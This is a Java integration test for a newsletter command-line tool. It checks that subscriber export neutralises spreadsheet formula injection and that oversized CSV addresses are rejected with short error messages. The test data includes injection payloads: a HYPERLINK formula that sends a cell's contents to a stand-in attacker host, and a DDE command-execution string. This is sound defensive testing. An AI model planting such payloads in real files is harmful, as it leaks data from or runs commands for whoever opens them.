package dev.rundbrief.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The attacks from outside that the command must refuse or bound (issue 28): what an attacker can
 * put into a CSV file, the configuration, the articles and the templates, run through the real
 * command in this JVM.
 */
class OutsideAttackCliIT {
  @TempDir Path temp;
  Path ws;

  @BeforeEach
  void workspace() throws Exception {
    System.setProperty("rundbrief.now", "2026-11-26T08:00:00Z");
    ws = temp.resolve("ki");
    CliRunner.Result init =
        CliRunner.runRaw(
            "init", ws.toString(), "--title", "KI-Rundbrief", "--site", "https://ki.example.org/");
    assertThat(init.exitCode()).as(init.err()).isZero();
  }

  @AfterEach
  void clock() {
    System.clearProperty("rundbrief.now");
  }

  @Test
  void anExportedListOpensWithoutFormulasAndImportsBackUnchanged() throws Exception {
    List<String> names =
        List.of(
            "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)",
            "'=1+1");
    for (int i = 0; i < names.size(); i++) {
      CliRunner.Result added =
          CliRunner.run(ws, "subscribers", "add", "r" + i + "@example.org", "--name", names.get(i));
      assertThat(added.exitCode()).as(added.err()).isZero();
    }
    Path file = temp.resolve("export.csv");
    assertThat(CliRunner.run(ws, "subscribers", "export", file.toString()).exitCode()).isZero();
    String csv = Files.readString(file, StandardCharsets.UTF_8);
    assertThat(csv)
        .contains("r0@example.org,\"'=HYPERLINK(")
        .contains("r1@example.org,'+cmd|")
        .contains("r2@example.org,'-2+3,")
        .contains("r3@example.org,'@SUM(1+1),")
        .contains("r4@example.org,''=1+1,");

    Path other = temp.resolve("other");
    CliRunner.runRaw("init", other.toString(), "--title", "B", "--site", "https://b.example.org/");
    CliRunner.Result imported = CliRunner.run(other, "subscribers", "import", file.toString());
    assertThat(imported.exitCode()).as(imported.err()).isZero();
    assertThat(imported.out()).contains("Added 5,");
    String list = CliRunner.run(other, "subscribers", "list", "--json").out();
    for (String name : names) {
      assertThat(list).contains(Json.MAPPER.writeValueAsString(name));
    }
  }

  @Test
  void aTenMegabyteAddressInACsvIsQuotedAsAShortPrefixOnStandardError() throws Exception {
    Path file = temp.resolve("big.csv");
    Files.writeString(
        file,
        "email,name\n"
            + "a".repeat(10 * 1024 * 1024)
            + "@evil.example,Evil\n"
            + "ok@example.org,Olga\n"
            + "b@"
            + "b".repeat(5 * 1024 * 1024)
            + ".example,Bob\n",
        StandardCharsets.UTF_8);
    CliRunner.Result r = CliRunner.run(ws, "subscribers", "import", file.toString());
    assertThat(r.exitCode()).isEqualTo(ExitCode.PARTIAL);
    assertThat(r.out()).contains("Added 1,").contains("rejected 2.");
    assertThat(r.err().length()).as("standard error is short").isLessThan(1000);
    assertThat(r.err().lines().toList())
        .hasSize(2)
        .allSatisfy(l -> assertThat(l).contains("characters)").contains("longer than 254"));
    assertThat(r.err()).contains("big.csv line 2: e-mail address 'aaaa");
  }
}
